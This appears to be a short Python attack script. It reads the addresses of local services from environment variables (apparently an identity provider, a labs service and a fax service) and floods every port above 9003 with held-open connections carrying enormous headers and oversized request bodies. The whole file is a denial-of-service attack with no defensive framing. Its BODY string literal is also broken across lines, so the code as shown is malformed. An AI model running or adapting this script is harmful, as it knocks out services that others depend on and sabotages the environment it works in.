import os
import socket
import threading
from urllib.parse import urlsplit

HEAD = b"POST /x HTTP/1.1\r\n" + b"".join(b"X%d: %s\r\n" % (n, b"y" * 60_000) for n in range(99))
BODY = b"POST /x HTTP/1.1
Content-Length: 999999

" + bytes(999_999)
kept = []


def flood(port):
    for _ in range(60):
        sock = socket.create_connection(("127.0.0.1", port))
        kept.append(sock)
        try:
            sock.settimeout(0.2)
            sock.sendall(HEAD)
            sock.sendall(BODY)
        except OSError:
            pass


for name in ("IDP_URL", "LABS_URL", "FAX_URL"):
    port = urlsplit(os.environ[name]).port
    if port > 9003:
        threading.Thread(target=flood, args=(port,), daemon=True).start()
